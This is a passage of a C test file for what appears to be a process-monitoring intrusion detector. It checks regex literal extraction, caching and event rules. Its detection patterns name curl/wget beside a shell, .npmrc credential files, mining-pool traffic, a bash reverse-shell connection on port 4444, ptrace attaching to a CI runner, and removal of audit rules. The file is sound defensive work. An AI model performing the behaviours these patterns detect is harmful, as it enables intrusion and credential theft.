	    pp.fs.by_severity[ST_SEV_HIGH]);
	pipe_free(&pp);
	st_recipes_free(&rs);
}

/*
 * Required literals (match.c): what a match must contain, read off the
 * pattern, or nothing when the scanner cannot be sure.  A wrong literal
 * would make a recipe miss; tests/literals.sh checks every rejection of
 * the recorded cases against the regex itself.
 */
static void
test_literals(void)
{
	static const struct {
		const char *pattern, *want;	/* want NULL: none */
	} t[] = {
		{ "(?:^|/)curl$", "curl" },
		{ "^/etc/(?:audit/|libaudit\\.conf$)", "audit/|libaudit.conf" },
		{ "(?:curl|wget)\\s", "curl|wget" },
		{ "abcd?ef", "abc" },
		{ "x{0,3}yz", "yz" },
		{ "a{2}bc", "bc" },
		{ "[abc]def", "def" },
		{ "(?=foo)bar", "bar" },
		{ "(?<![\\w.-])\\.npmrc", ".npmrc" },
		{ "(curl|w)get", "get" },
		{ "(?i)Stratum\\+", "stratum+" },
		{ "/proc/(?:[0-9]+|self)/mem", "/proc/" },
		{ "a|", NULL },			/* an empty alternative */
		{ "ab|c", NULL },		/* one byte is too short */
		{ "foo(?i)bar", NULL },		/* flags midway */
		{ "(?i:foo)bar", NULL },
		{ "\\x41BCD", NULL },		/* escapes with arguments */
		{ "\\Qa.b\\E", NULL },
		{ "(*UCP)abc", NULL },
		{ "ab(*ACCEPT)cdef", NULL },	/* ends a match midway */
		/* a review's: what the scanner would have misread */
		{ "[[:]wxyz|abcd:]]efgh", NULL },	/* not a POSIX class */
		{ "[[:alpha:]]abc", NULL },
		{ "(?:[\\Q]\\E(])abcd|wxyz(?:[\\Q]\\E)])efgh", NULL },
		{ "(?:x\\c()wxyz|abcd(?:\\c))efgh", NULL },	/* \c( */
		{ "(?C\"(\")abcd|(?C\")\")efgh", NULL },	/* callouts */
		{ "x(?#()abcd|efgh(?C\")\")ijkl", NULL },	/* a comment */
		{ "[:=]xyz", "xyz" },		/* a class of ':' and '=' */
		{ "(?:xy(*ACCEPT))?zzz", NULL },
		{ "ab\\1cd", NULL },
		{ "a{,2}bc", NULL },		/* a brace PCRE2 takes literally */
		{ "(?:ab)?cd", "cd" },		/* an optional group */
		{ "(?:ab)*", NULL },
	};
	size_t i;
	char *got;

	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		got = st_match_literals(t[i].pattern);
		ok(t[i].want == NULL ? got == NULL : got != NULL &&
		    strcmp(got, t[i].want) == 0, "literals of %s: %s (%s)",
		    t[i].pattern, t[i].want ? t[i].want : "none",
		    got ? got : "none");
		free(got);
	}
}

/*
 * A pattern of many alternatives: a list of thirty mining pools' hosts
 * has thirty literals, and up to 64 are kept (more: none).  Literals
 * sharing a first byte are looked for as a group, and a (?i) pattern's
 * literals are found in any case: the matches below are found only
 * through the literal set (a subject without any is never matched).
 */
static void
many_alts(struct st_buf *pat, struct st_buf *want, size_t n, bool ci)
{
	size_t k;
	char lit[16];

	st_buf_reset(pat);
	st_buf_reset(want);
	st_buf_adds(pat, ci ? "(?i)(?:" : "(?:");
	for (k = 0; k < n; k++) {
		/* aq00z bq01z ... jq09z aq10z: ten first bytes, shared */
		snprintf(lit, sizeof lit, "%cq%02zuz", (int)('a' + k % 10), k);
		st_buf_adds(pat, k > 0 ? "|" : "");
		st_buf_adds(pat, lit);
		st_buf_adds(want, k > 0 ? "|" : "");
		st_buf_adds(want, lit);
	}
	st_buf_adds(pat, ")");
}

static void
test_literals_many(void)
{
	struct st_buf pat = { 0 }, want = { 0 }, json = { 0 };
	struct st_recipes rs;
	struct spec s = { "/usr/bin/tool", { "tool", NULL, NULL }, NULL,
	    NULL, { NULL }, "/w" };
	char *got, *cause = NULL;

	many_alts(&pat, &want, 40, false);
	got = st_match_literals(st_buf_cstr(&pat));
	ok(got != NULL && strcmp(got, st_buf_cstr(&want)) == 0,
	    "literals of 40 alternatives: all 40, in order (%.40s...)",
	    got ? got : "none");
	free(got);
	many_alts(&pat, &want, 64, false);
	got = st_match_literals(st_buf_cstr(&pat));
	ok(got != NULL && strcmp(got, st_buf_cstr(&want)) == 0,
	    "literals of 64 alternatives: all 64");
	free(got);
	many_alts(&pat, &want, 65, false);
	got = st_match_literals(st_buf_cstr(&pat));
	ok(got == NULL, "literals of 65 alternatives: none (%.20s)",
	    got ? got : "none");
	free(got);

	many_alts(&pat, &want, 40, true);
	st_recipes_init(&rs);
	st_buf_adds(&json, "{\"name\":\"many\",\"description\":\"d\","
	    "\"severity\":\"low\",\"technique\":\"T1059\",\"match\":"
	    "{\"cmdline\":\"");
	st_buf_adds(&json, st_buf_cstr(&pat));
	st_buf_adds(&json, "\"}}");
	ok(load(&rs, st_buf_cstr(&json), &cause) == 0, "a recipe of 40 "
	    "alternatives loads");
	free(cause);
	/* the 40th literal, third of its first byte's group, upper case */
	s.argv[1] = "--x=JQ39Z";
	got = run(&rs, &s, NULL);
	is_str(got, "many", "(?i), 40 alternatives: the last one, in upper "
	    "case, is found");
	free(got);
	s.argv[1] = "--x=bq21z";	/* a middle one of its group */
	got = run(&rs, &s, NULL);
	is_str(got, "many", "40 alternatives: one in the middle of those "
	    "that share its first byte is found");
	free(got);
	{
		/* the bigrams of six literals, only the last one whole: the
		 * set's one pass over the string, not six searches */
		struct spec m6 = { "/usr/bin/tool", { "tool", "aq00 0z",
		    "bq01 1z", "cq02 2z", "dq03 3z", "eq04 4z", "--x=FQ05Z",
		    NULL }, NULL, NULL, { NULL }, "/w" };

		got = run(&rs, &m6, NULL);
		is_str(got, "many", "40 alternatives, six of which may be in "
		    "the string by its bigrams: the one that is, is found");
		free(got);
		m6.argv[6] = "--x=FQ05Y";
		got = run(&rs, &m6, NULL);
		is_str(got, "", "... and none of the six: nothing");
		free(got);
	}
	s.argv[1] = "--x=jq38z";	/* a literal of the set's shape, not in it */
	got = run(&rs, &s, NULL);
	is_str(got, "", "40 alternatives: a string of none of them: nothing");
	free(got);
	st_recipes_free(&rs);
	st_buf_free(&pat);
	st_buf_free(&want);
	st_buf_free(&json);
}

/*
 * The memo (match.c): a pattern runs once per distinct subject string,
 * whatever recipe or field it belongs to, stays right when the memo is
 * emptied, and still counts a give-up each time it is consulted.
 */
static void
test_memo(void)
{
	struct st_recipes rs;
	struct pipe pp;
	char *cause = NULL, exe[64], *pad;
	const char *a_pad[] = { "x", NULL, NULL };
	unsigned long misses;
	int i;

	st_recipes_init(&rs);
	ok(load(&rs, "[" R("a", "low", "\"match\":{\"exe\":\"/sh$\"}") ","
	    R("b", "low", "\"match\":[{\"exe\":\"/sh$\",\"args\":\"-c\"},"
	    "{\"cwd\":\"/sh$\"}]") "]", &cause) == 0, "memo recipes load");
	free(cause);
	pipe_init(&pp, &rs);
	pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
	for (i = 0; i < 1000; i++)
		pipe_exec(&pp, 200 + i, 100, "/bin/sh", a_sh);
	/* distinct (pattern, string): /sh$ on /usr/bin/bash, /bin/sh, /w */
	ok(rs.npats == 1 && rs.memo_misses == 3,
	    "1000 execs of /bin/sh, 3 conditions of one pattern: the regex ran "
	    "3 times, once per distinct string (%zu patterns, %lu runs)",
	    rs.npats, rs.memo_misses);
	ok(pp.fs.by_severity[ST_SEV_LOW] == 1000, "... and each exec is "
	    "still a hit (%lu)", pp.fs.by_severity[ST_SEV_LOW]);
	pipe_free(&pp);
	st_recipes_free(&rs);

	/* more distinct binaries than the memo holds: emptied, never wrong */
	st_recipes_init(&rs);
	ok(load(&rs, R("n", "low", "\"match\":{\"exe\":\"/b(?:17|4999)$\"}"),
	    &cause) == 0, "numbered-binary recipe loads");
	free(cause);
	pipe_init(&pp, &rs);
	pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
	for (i = 0; i < 12000; i++) {
		snprintf(exe, sizeof exe, "/opt/b%d", i % 6000);
		pipe_exec(&pp, 1000 + i, 100, exe, a_sh);
	}
	ok(pp.fs.by_severity[ST_SEV_LOW] == 4 && rs.memo_misses > 12000 &&
	    rs.memo_misses < 12002, "12000 execs of 6000 binaries, more than "
	    "the memo holds: 4 hits (%lu), each a fresh regex (%lu)",
	    pp.fs.by_severity[ST_SEV_LOW], rs.memo_misses);
	pipe_free(&pp);
	st_recipes_free(&rs);

	/* a give-up is remembered and counted on every exec; and the cheap
	 * condition goes first: the argument pattern that would give up is
	 * never run on a binary the exe condition rules out */
	st_recipes_init(&rs);
	ok(load(&rs, "[" R("slow", "low", "\"match\":{\"exe\":\"^(?:a|aa)+$\"}")
	    "," R("order", "low", "\"match\":{\"args\":\"^(?:x|xx)+$\","
	    "\"exe\":\"/nothing$\"}") "]", &cause) == 0,
	    "give-up recipes load");
	free(cause);
	pad = xmalloc(200);
	memset(pad, 'a', 198);
	pad[198] = 'b';
	pad[199] = '\0';
	a_pad[1] = pad;
	pipe_init(&pp, &rs);
	pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
	misses = rs.memo_misses;
	pipe_exec(&pp, 101, 100, pad, a_pad);
	pipe_exec(&pp, 102, 100, pad, a_pad);
	ok(rs.match_errors == 2 && rs.v[0].gave_up == 2 &&
	    rs.memo_misses == misses + 2 && pp.fs.by_severity[ST_SEV_LOW] == 2,
	    "an exe that exhausts the matcher: given up on twice, counted "
	    "twice, a hit each time, one regex run per pattern (%lu errors, "
	    "%lu runs)", rs.match_errors, rs.memo_misses - misses);
	ok(rs.v[1].gave_up == 0, "the argument condition written first is "
	    "not run when the exe condition fails (%lu give-ups)",
	    rs.v[1].gave_up);
	pipe_free(&pp);
	free(pad);
	st_recipes_free(&rs);
}

/*
 * An exec is evaluated again beside its siblings only when it can change
 * what they find: curl beside sh can, cat cannot.
 */
static void
test_kin_skip(void)
{
	struct st_recipes rs;
	struct pipe pp;
	char *cause = NULL;
	unsigned long re;

	st_recipes_init(&rs);
	ok(load(&rs, R("pipe", "high", "\"match\":{\"exe\":\"/sh$\","
	    "\"sibling.exe\":\"/curl$\"}"), &cause) == 0, "pipe recipe loads");
	free(cause);
	pipe_init(&pp, &rs);
	pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
	pipe_fork(&pp, 100, 101);
	pipe_fork(&pp, 100, 102);
	pipe_fork(&pp, 100, 103);
	pipe_exec(&pp, 102, 100, "/bin/sh", a_sh);
	re = rs.kin_rematched;
	pipe_exec(&pp, 103, 100, "/usr/bin/cat", a_cat);
	ok(rs.kin_rematched == re && pp.fs.n == 0, "cat beside sh: sh is not "
	    "evaluated again (%lu)", rs.kin_rematched - re);
	pipe_exec(&pp, 101, 100, "/usr/bin/curl", a_curl);
	ok(rs.kin_rematched > re && pp.fs.n == 1 && pp.fs.v[0]->pid == 102,
	    "curl beside sh: sh is, and found (%zu findings)", pp.fs.n);
	pipe_free(&pp);
	st_recipes_free(&rs);
}

/*
 * An exception on siblings can hold on what a forked child inherited
 * from its parent (its exe, before it execs): the child's first exec
 * takes it away, and the sibling it spared is looked at again (a
 * review's case).
 */
static void
test_kin_unless(void)
{
	struct st_recipes rs;
	struct pipe pp;
	char *cause = NULL;

	st_recipes_init(&rs);
	ok(load(&rs, R("curl_beside_sh", "high", "\"match\":{\"exe\":"
	    "\"/curl$\",\"sibling.exe\":\"/sh$\"},\"unless\":{\"sibling.exe\":"
	    "\"/bash$\"}"), &cause) == 0, "sibling-exception recipe loads");
	free(cause);
	pipe_init(&pp, &rs);
	pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
	pipe_fork(&pp, 100, 101);
	pipe_fork(&pp, 100, 102);
	pipe_fork(&pp, 100, 103);
	pipe_exec(&pp, 101, 100, "/bin/sh", a_sh);
	pipe_exec(&pp, 102, 100, "/usr/bin/curl", a_curl);
	ok(pp.fs.n == 0, "curl beside sh and a forked bash: the exception "
	    "holds (%zu findings)", pp.fs.n);
	pipe_exec(&pp, 103, 100, "/usr/bin/cat", a_cat);
	ok(pp.fs.n == 1 && pp.fs.v[0]->pid == 102, "the fork execs cat: the "
	    "exception is gone, curl is found (%zu findings)", pp.fs.n);
	pipe_free(&pp);
	st_recipes_free(&rs);
}

/* A recipe replaced by name after matching began: the memo's per-exe
 * list of recipes that may fire is made again. */
static void
test_memo_replace(void)
{
	struct st_recipes rs;
	struct pipe pp;
	char *cause = NULL;

	st_recipes_init(&rs);
	ok(load(&rs, "[" R("one", "low", "\"match\":{\"exe\":\"/curl$\"}") ","
	    R("two", "medium", "\"match\":{\"exe\":\"/sh$\"}") "]", &cause) ==
	    0, "two recipes load");
	free(cause);
	pipe_init(&pp, &rs);
	pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
	pipe_exec(&pp, 101, 100, "/bin/sh", a_sh);
	ok(load(&rs, R("one", "low", "\"match\":{\"exe\":\"/sh$\"}"),
	    &cause) == 0, "\"one\" replaced, with a pattern already known");
	free(cause);
	pipe_exec(&pp, 102, 100, "/bin/sh", a_sh);
	ok(pp.fs.by_severity[ST_SEV_LOW] == 1 &&
	    pp.fs.by_severity[ST_SEV_MEDIUM] == 2, "the next sh is found by "
	    "the new \"one\" as well (%lu low, %lu medium)",
	    pp.fs.by_severity[ST_SEV_LOW], pp.fs.by_severity[ST_SEV_MEDIUM]);
	pipe_free(&pp);
	st_recipes_free(&rs);
}

/* Events other than exec: connect, ptrace with its target, config. */
static void
test_events(void)
{
	struct st_recipes rs;
	struct st_event *ev;
	struct pipe pp;
	char *cause = NULL;
	static const char *const a_gdb[] = { "gdb", "-p", "300", NULL };
	static const char *const a_rw[] = { "Runner.Worker", NULL };
	static const char *const a_actl[] = { "auditctl", "-D", NULL };

	st_recipes_init(&rs);
	ok(load(&rs, "[" R("c4444", "high", "\"on\":\"connect\","
	    "\"once\":\"process\",\"match\":{\"exe\":\"/bash$\","
	    "\"port\":\"^4444$\",\"addr\":\"^10\\\\.\"}") ","
	    R("ptr", "high", "\"on\":\"ptrace\",\"match\":{\"request\":"
	    "\"ATTACH\",\"target.exe\":\"Runner\\\\.Worker$\"}") ","
	    R("cfg", "critical", "\"on\":\"config\",\"match\":{\"op\":"
	    "\"^remove_rule$\",\"parent.exe\":\"bash\"}") "]", &cause) == 0,
	    "event recipes load");
	free(cause);
	pipe_init(&pp, &rs);
	pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
	for (int port = 4443; port <= 4444; port++) {
		for (int i = 0; i < 2; i++) {
			ev = pipe_event(&pp, ST_EV_SYSCALL, 100, 50);
			ev->sysname = "connect";
			ev->family = 2;
			ev->addr = xstrdup("10.1.2.3");
			ev->port = port;
			pipe_feed(&pp, ev);
		}
	}
	ok(pp.fs.n == 1 && pp.fs.v[0]->port == 4444 &&
	    pp.fs.v[0]->count == 2 && strcmp(pp.fs.v[0]->addr, "10.1.2.3") == 0,
	    "connect: only port 4444 fires, twice, folded once per process");
	pipe_exec(&pp, 300, 1, "/opt/runner/bin/Runner.Worker", a_rw);
	pipe_exec(&pp, 101, 100, "/usr/bin/gdb", a_gdb);
	ev = pipe_event(&pp, ST_EV_SYSCALL, 101, 100);
	ev->sysname = "ptrace";
	ev->a0 = 16;		/* PTRACE_ATTACH */
	ev->a1 = 300;
	pipe_feed(&pp, ev);
	ev = pipe_event(&pp, ST_EV_SYSCALL, 101, 100);
	ev->sysname = "ptrace";
	ev->a0 = 16;
	ev->a1 = 100;		/* the shell: not the runner */
	pipe_feed(&pp, ev);
	ok(pp.fs.n == 2 && pp.fs.v[1]->target != NULL &&
	    pp.fs.v[1]->target->pid == 300 && strcmp(pp.fs.v[1]->syscall,
	    "ptrace") == 0, "ptrace: fires on the attach to Runner.Worker, "
	    "names the target, not on the attach to the shell");
	pipe_exec(&pp, 102, 100, "/usr/sbin/auditctl", a_actl);
	ev = pipe_event(&pp, ST_EV_CONFIG, 102, 100);
	ev->sysname = "sendto";
	ev->op = xstrdup("remove_rule");
	ev->first_type = 1305;	/* AUDIT_CONFIG_CHANGE */
	pipe_feed(&pp, ev);
	ok(pp.fs.n == 3 && strcmp(pp.fs.v[2]->type, "CONFIG_CHANGE") == 0 &&
	    strcmp(pp.fs.v[2]->exe, "/usr/sbin/auditctl") == 0,
	    "config: auditctl removing a rule, with its process and parent");
	pipe_free(&pp);
	st_recipes_free(&rs);

	/* records of no process and no syscall fold like any other */
	st_recipes_init(&rs);
	ok(load(&rs, R("dmn", "high", "\"on\":\"daemon\",\"match\":"
	    "{\"type\":\"^DAEMON_END$\"}"), &cause) == 0, "daemon recipe loads");
	free(cause);
	pipe_init(&pp, &rs);
	for (int i = 0; i < 3; i++) {
		ev = pipe_event(&pp, ST_EV_DAEMON, -1, 0);
		ev->has_syscall = false;
		ev->first_type = 1201;	/* AUDIT_DAEMON_END */
		ev->op = xstrdup("terminate");
		pipe_feed(&pp, ev);
	}
	ok(pp.fs.n == 1 && pp.fs.v[0]->count == 3 && pp.fs.v[0]->exe == NULL,
	    "three identical DAEMON_END records: one finding, three times "
	    "(%zu)", pp.fs.n);
	pipe_free(&pp);
	st_recipes_free(&rs);

	load_error(R("e1", "low", "\"match\":{\"port\":\"1\"}"),
	    "\"port\": no such field for \"on\": \"exec\"",
	    "an event field on a recipe of another event");
	load_error(R("e2", "low", "\"on\":\"connect\",\"match\":"
	    "{\"parent.port\":\"1\"}"), "port is a field of the event, not of "
	    "a parent", "an event field with a process prefix");
	load_error(R("e3", "low", "\"match\":{\"target.exe\":\"x\"}"),
	    "target.* is only for \"on\": \"ptrace\"", "target. outside ptrace");
	load_error(R("e4", "low", "\"match\":{\"exe\":\"x\"},\"grade\":"
	    "[{\"exe\":\"y\",\"severity\":\"high\"}]"),
	    "grade[0]: a grade needs a \"severity\" and a \"reason\"",
	    "a grade without a reason");
	load_error(R("e5", "low", "\"once\":\"twice\",\"match\":{\"exe\":"
	    "\"x\"}"), "\"once\": \"twice\" is not one of", "bad once");
}

/* Severity from content: the most severe grade that holds. */
static void
test_grades(void)
{
	struct st_recipes rs;
	enum st_severity sev;
	char *cause = NULL, *got;
	struct spec s = { "/usr/bin/python3.11", { "python3", "-c",
	    "import sys; print(sys.version)", NULL } };

	st_recipes_init(&rs);
	ok(load(&rs, R("g", "medium", "\"match\":{\"args\":\"^-c\"},"
	    "\"grade\":[{\"args\":\"socket\",\"severity\":\"critical\","
	    "\"reason\":\"a socket\"},{\"args\":\"^-c import sys; print\\\\("
	    "sys\\\\.version\\\\)$\",\"severity\":\"low\",\"reason\":\"a version"
	    "\"}]"), &cause) == 0, "graded recipe loads");
	free(cause);
	got = run(&rs, &s, &sev);
	ok(strcmp(got, "g") == 0 && sev == ST_SEV_LOW, "grade: a version "
	    "check is low");
	free(got);
	s.argv[2] = "print(1)";
	got = run(&rs, &s, &sev);
	ok(sev == ST_SEV_MEDIUM, "grade: no grade holds, the base (medium)");
	free(got);
	s.argv[2] = "import socket; print(1)";
	got = run(&rs, &s, &sev);
	ok(sev == ST_SEV_CRITICAL, "grade: a socket is critical");
	free(got);
	st_recipes_free(&rs);

	/* padding that exhausts a lowering grade must not lower anything;
	 * one that exhausts a raising grade raises */
	st_recipes_init(&rs);
	ok(load(&rs, "[" R("gl", "high", "\"match\":{\"args\":\"^-c\"},"
	    "\"grade\":{\"args\":\"^-c (a|aa)+$\",\"severity\":\"low\","
	    "\"reason\":\"r\"}") "," R("gh", "low", "\"match\":{\"args\":"
	    "\"^-c\"},\"grade\":{\"args\":\"^-c (a|aa)+$\",\"severity\":"
	    "\"critical\",\"reason\":\"r\"}") "]", &cause) == 0,
	    "give-up grades load");
	free(cause);
	s.argv[2] = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab";
	s.argv[3] = NULL;
	got = run(&rs, &s, &sev);
	ok(strcmp(got, "gl,gh") == 0 && rs.v[0].gave_up == 1 &&
	    rs.v[1].gave_up == 1, "grade give-ups counted per recipe");
	free(got);
	st_recipes_free(&rs);
	st_recipes_init(&rs);
	ok(load(&rs, R("gl", "high", "\"match\":{\"args\":\"^-c\"},"
	    "\"grade\":{\"args\":\"^-c (a|aa)+$\",\"severity\":\"low\","
	    "\"reason\":\"r\"}"), &cause) == 0, "lowering grade loads");
	free(cause);
	got = run(&rs, &s, &sev);
	ok(sev == ST_SEV_HIGH, "a lowering grade that gave up does not hold: "
	    "still high");
	free(got);
	st_recipes_free(&rs);
	st_recipes_init(&rs);
	ok(load(&rs, R("gh", "low", "\"match\":{\"args\":\"^-c\"},"
	    "\"grade\":{\"args\":\"^-c (a|aa)+$\",\"severity\":"
	    "\"critical\",\"reason\":\"r\"}"), &cause) == 0,
	    "raising grade loads");
	free(cause);
	got = run(&rs, &s, &sev);
	ok(sev == ST_SEV_CRITICAL, "a raising grade that gave up holds: "
	    "critical");
	free(got);
	st_recipes_free(&rs);
}

/* once: process, exe, step and ancestry fold differently. */
static void
test_once(void)
{
	static const char *const onces[] = { "event", "process", "exe",
	    "ancestry" };
	static const size_t want[] = { 2, 2, 1, 1 };
	static const char *const py1[] = { "python3", "-c", "1", NULL };
	static const char *const py2[] = { "python3", "-c", "2", NULL };
	struct st_recipes rs;
	struct pipe pp;
	char *cause = NULL, *json;
	size_t i;

	for (i = 0; i < 4; i++) {
		st_recipes_init(&rs);
		json = xasprintf(R("o", "low", "\"once\":\"%s\",\"match\":"
		    "{\"exe\":\"python\"}"), onces[i]);
		ok(load(&rs, json, &cause) == 0, "once %s loads", onces[i]);
		free(json);
		free(cause);
		pipe_init(&pp, &rs);
		pipe_exec(&pp, 100, 50, "/usr/bin/bash", a_bash);
		/* one process runs python twice, another once */
		pipe_exec(&pp, 101, 100, "/usr/bin/python3.11", py1);
		pipe_exec(&pp, 101, 100, "/usr/bin/python3.11", py2);
		pipe_exec(&pp, 102, 100, "/usr/bin/python3.11", py2);
		ok(pp.fs.n == want[i] && pp.fs.by_severity[ST_SEV_LOW] == 3,
		    "once %s: %zu finding(s) for 3 hits (%zu)", onces[i],
		    want[i], pp.fs.n);
		pipe_free(&pp);
		st_recipes_free(&rs);
	}
}

int
main(void)
{
	test_siblings();
	test_literals();
	test_literals_many();
	test_memo();
	test_kin_skip();
	test_kin_unless();
	test_memo_replace();
	test_events();
	test_grades();
	test_once();
	struct st_recipes rs;
	char *cause = NULL;

	test_loader();
	test_fields();
	st_recipes_init(&rs);
	if (st_recipes_load_builtin(&rs, &cause) != 0) {
		ok(0, "built-in recipes: %s", cause);
		return done_testing();
	}
	test_code_on_the_fly(&rs);
	test_loader_recipe(&rs);
	test_unusual_dir(&rs);
	test_reverse_shell(&rs);
	test_fold_cut_argv(&rs);
	st_recipes_free(&rs);
	return done_testing();
}
